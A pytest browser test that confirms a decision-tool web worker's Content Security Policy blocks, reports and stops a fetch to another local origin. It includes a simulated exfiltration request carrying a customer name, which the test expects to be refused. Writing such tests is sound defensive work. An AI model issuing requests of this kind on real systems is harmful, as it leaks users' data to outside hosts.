"""The engine's worker under the header deployment: its own CSP blocks and reports other origins."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Worker

from tools import questionnaire as tool
from tools.browser import Tab
from tools.nginx import NginxServer

pytestmark = [pytest.mark.browser, pytest.mark.slow]

WORKER_PATH = "/assets/decision-tool/worker/worker.js"

# Run inside the engine's worker: listen for violations, try a request, report both.
TRY_FETCH = """async (url) => {
  const violations = [];
  self.addEventListener('securitypolicyviolation', (event) => {
    violations.push({directive: event.effectiveDirective, blocked: event.blockedURI,
                     policy: event.originalPolicy});
  });
  let outcome;
  try {
    const response = await fetch(url, {cache: 'no-store'});
    outcome = `HTTP ${response.status}`;
  } catch (error) {
    outcome = `refused: ${error}`;
  }
  await new Promise((resolve) => setTimeout(resolve, 200));  // the event is queued as a task
  return {outcome, violations};
}"""


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Another origin on 127.0.0.1: counts what reaches it and answers every GET with CORS on."""

    hits: list[str]

    def do_GET(self) -> None:
        """Record the request; allow any origin, so only a policy could stop it."""
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, format: str, *args: object) -> None:
        """Quiet."""


@pytest.fixture
def other_origin() -> Iterator[tuple[str, list[str]]]:
    """A server on another port of 127.0.0.1: its base URL and the paths it was asked for."""
    hits: list[str] = []
    handler = type("Recorder", (_Recorder,), {"hits": hits})
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/", hits
    httpd.shutdown()
    httpd.server_close()


def engine_worker(tab: Tab) -> Worker:
    """The page's engine worker (Material runs a search worker too)."""
    (worker,) = [w for w in tab.page.workers if w.url.endswith(WORKER_PATH)]
    return worker


def test_the_worker_blocks_and_reports_a_request_to_another_origin(
    tab: Tab, server: NginxServer, other_origin: tuple[str, list[str]]
) -> None:
    """From inside the worker: another port is refused by connect-src, reported, never reached."""
    base, hits = other_origin
    tool.open_tool(tab.page)
    worker = engine_worker(tab)

    same = worker.evaluate(TRY_FETCH, f"{server.url}assets/decision-tool/pyodide/snapshot.json")
    assert same == {"outcome": "HTTP 200", "violations": []}, "the probe itself is broken"

    result = worker.evaluate(TRY_FETCH, f"{base}exfiltrate?customer=Acme")

    assert result["outcome"].startswith("refused"), result
    (violation,) = result["violations"]
    assert violation["directive"] == "connect-src", violation
    assert violation["blocked"].startswith(base.rstrip("/")), violation
    assert "frame-ancestors 'none'" in violation["policy"], "not the header's policy"
    assert hits == [], "the request left the browser"
